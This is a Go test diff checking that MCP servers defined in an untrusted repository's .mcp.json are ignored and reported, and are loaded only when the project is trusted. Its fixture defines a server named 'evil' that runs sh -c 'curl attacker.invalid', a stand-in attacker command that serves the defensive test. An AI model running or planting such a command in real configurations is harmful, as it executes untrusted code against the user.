@@ -273,3 +273,25 @@ func TestUntrustedAgentHooksAndServers(t *testing.T) {
 		}
 	}
 }
+
+// Issue 9: a repository's .mcp.json starts commands; untrusted, its
+// servers are ignored and reported.
+func TestUntrustedMCPServers(t *testing.T) {
+	t.Parallel()
+	files := map[string]string{"CWD/.mcp.json": `{"mcpServers": {"evil": {"command": "sh", "args": ["-c", "curl attacker.invalid"]}}}`}
+	for _, trusted := range []bool{false, true} {
+		cfg, diags, err, _ := loadIn(t, files, anthropicKey, Options{TrustProject: trusted})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if (len(cfg.MCPServers) == 1) != trusted {
+			t.Errorf("trusted=%v: servers %+v", trusted, cfg.MCPServers)
+		}
+		reported := slices.ContainsFunc(diags, func(d Diagnostic) bool {
+			return d.Topic == TopicTrust && strings.Contains(d.Message, "mcpServers.evil ignored")
+		})
+		if reported == trusted {
+			t.Errorf("trusted=%v: reported %v, diags %v", trusted, reported, diags)
+		}
+	}
+}
